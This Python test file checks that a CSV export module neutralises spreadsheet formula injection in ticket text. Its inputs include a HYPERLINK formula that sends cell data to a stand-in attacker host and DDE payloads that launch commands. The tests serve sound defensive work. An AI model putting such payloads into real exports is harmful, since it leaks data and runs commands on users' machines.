"""CSV exports: nothing that a ticket's writer typed in becomes a formula, and our own numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from infra.ops.cli.csv_export import ENCODING, CsvExport, as_text

SIGNS = "=+-@＝＋－＠"
HOSTILE = st.text(st.sampled_from(list(SIGNS + "'\",;|\t\r\n \x00\x0b\x85\u2028\ufeff\u200ba1")), max_size=20)


def written(*row: object) -> str:
    stream = io.StringIO(newline="")
    CsvExport(stream, [f"column {number}" for number in range(len(row))]).write(row)
    return stream.getvalue().split("\r\n", 1)[1]


def read(*row: object) -> list[str]:
    return next(csv.reader(io.StringIO(written(*row), newline="")))


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://evil.example/?d="&A1)',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\ufeff=1+1",
        "＝1+1",
        '"=1+1',
    ],
)
def test_a_cell_that_begins_like_a_formula_begins_as_text(formula: str) -> None:
    (cell,) = read(formula)
    assert re.match(r"[\s\ufeff\"]*'", cell)
    assert cell.replace("'", "") == formula.replace("'", "")


@given(HOSTILE | st.text())
def test_no_cell_begins_like_a_formula_whichever_separator_a_reader_takes_and_whether_or_not_it_knows_quotes(
    text: str,
) -> None:
    line = written(7, text, "last").removesuffix("\r\n")
    for cell in re.split(r"[,;|\t]|[\r\n\v\f\x85\u2028\u2029]", line):
        assert cell.strip('"\x00\ufeff\u200b' + "".join(map(chr, range(0x21))))[:1] not in tuple(SIGNS)


@given(HOSTILE | st.text())
def test_only_apostrophes_are_added_and_a_text_stays_one_cell(text: str) -> None:
    number, cell, last = read(7, text, "last")
    assert (number, last) == ("7", "last")
    assert cell.replace("'", "") == text.replace("'", "").encode("utf-8", "backslashreplace").decode()


@pytest.mark.parametrize(
    "text", ["a plain text", "a - b = c", "x@y.example", "1+1", "don't", 'say "hello", then go', ""]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert read(text) == [text]


def test_our_own_values_keep_their_meaning() -> None:
    at = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
    assert written(-5, -0.25, Decimal("-1.50"), None, True, at, date(2026, 11, 20)) == (
        '-5,-0.25,-1.50,"","true","2026-11-20T09:00:00Z","2026-11-20"\r\n'
    )
    assert read(["=1", {"a": None}]) == ['["\'=1", {"a": null}]'.replace("'", "")]
    assert read(float("-inf")) == ["'-inf"]


def test_columns_are_guarded_like_cells_and_a_row_must_fit_them() -> None:
    stream = io.StringIO(newline="")
    export = CsvExport(stream, ["ticket", "=1+1"])
    assert stream.getvalue() == '"ticket","\'=1+1"\r\n'
    with pytest.raises(ValueError, match="a row of 1 cells under 2 columns"):
        export.write(["7"])


def test_half_a_surrogate_pair_can_be_written() -> None:
    assert as_text("\ud83d=").encode(ENCODING).endswith(b"\\ud83d=")
